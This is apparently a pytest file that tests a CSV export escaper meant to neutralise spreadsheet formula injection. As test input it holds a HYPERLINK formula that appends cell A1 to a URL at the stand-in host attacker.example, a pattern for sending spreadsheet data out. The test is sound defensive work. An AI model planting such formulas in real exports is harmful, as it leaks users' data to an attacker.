"""CSV cells are safe to open in spreadsheets."""

from __future__ import annotations

import pytest

from gateway.services.usage.csv_export import escape_cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_formulas_are_escaped(start: str) -> None:
    formula = f'{start}HYPERLINK("http://attacker.example/"&A1)'
    assert escape_cell(formula) == "'" + formula


@pytest.mark.parametrize("plain", ["small", "a@example.com", "2026-01-01", "1.5", "", "a=b", "'quoted'"])
def test_other_text_is_unchanged(plain: str) -> None:
    assert escape_cell(plain) == plain


def test_none_is_an_empty_cell_and_numbers_are_digits() -> None:
    assert (escape_cell(None), escape_cell(0), escape_cell(17)) == ("", "0", "17")
